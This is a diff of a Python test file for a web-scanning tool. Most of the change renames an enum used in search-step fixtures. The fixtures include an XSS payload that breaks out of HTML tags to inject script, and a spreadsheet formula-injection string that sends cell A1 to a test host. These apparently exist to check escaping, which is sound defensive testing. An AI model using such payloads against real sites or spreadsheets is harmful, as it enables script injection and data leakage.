@@ -7,7 +7,7 @@ from pathlib import Path
 from prober.domain.finding import Failure
 from prober.domain.indicator import Kind
 from prober.domain.reason import Reason, to_json
-from prober.domain.visit import Outcome, Part, SearchStep
+from prober.domain.visit import Outcome, SearchPart, SearchStep
 from prober.store import evidence
 from prober.store.results import runs
 from tests.prober.conftest import SCANNED, Survey
@@ -16,12 +16,14 @@ HOSTILE = '</td></script><script>document.title="owned"</script><img src=x onerr
 FORMULA = '=HYPERLINK("https://x.test/?"&A1,"a\r\nb")'
 SITE = "https://stc.camau.gov.test"
 SEARCHED = (
-    SearchStep(Part.HOME, f"{SITE}/", Outcome.READ, status=200, count=57),
-    SearchStep(Part.LINK, f"{SITE}/lien-he", Outcome.MISSING, (Kind.WEB_FORM,), "menu", 404, Failure.HTTP_4XX),
-    SearchStep(Part.LINK, f"javascript:{HOSTILE}", Outcome.REDIRECTED, (Kind.WEB_FORM,), location=HOSTILE, status=302),
-    SearchStep(Part.LINK, "", Outcome.UNOPENED, (Kind.WEB_FORM,), count=31),
-    SearchStep(Part.USUAL_PATH, f"{SITE}/gop-y", Outcome.FAILED, (Kind.WEB_FORM,), failure=Failure.ROBOTS),
-    SearchStep(Part.USUAL_PATH, f"{SITE}/hoi-dap", Outcome.MISSING, (Kind.QA,), status=404),
+    SearchStep(SearchPart.HOME, f"{SITE}/", Outcome.READ, status=200, count=57),
+    SearchStep(SearchPart.LINK, f"{SITE}/lien-he", Outcome.MISSING, (Kind.WEB_FORM,), "menu", 404, Failure.HTTP_4XX),
+    SearchStep(
+        SearchPart.LINK, f"javascript:{HOSTILE}", Outcome.REDIRECTED, (Kind.WEB_FORM,), location=HOSTILE, status=302
+    ),
+    SearchStep(SearchPart.LINK, "", Outcome.UNOPENED, (Kind.WEB_FORM,), count=31),
+    SearchStep(SearchPart.USUAL_PATH, f"{SITE}/gop-y", Outcome.FAILED, (Kind.WEB_FORM,), failure=Failure.ROBOTS),
+    SearchStep(SearchPart.USUAL_PATH, f"{SITE}/hoi-dap", Outcome.MISSING, (Kind.QA,), status=404),
 )
 PNG = bytes.fromhex(
     "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c63f8cfc0f01f0005050102d1a9"
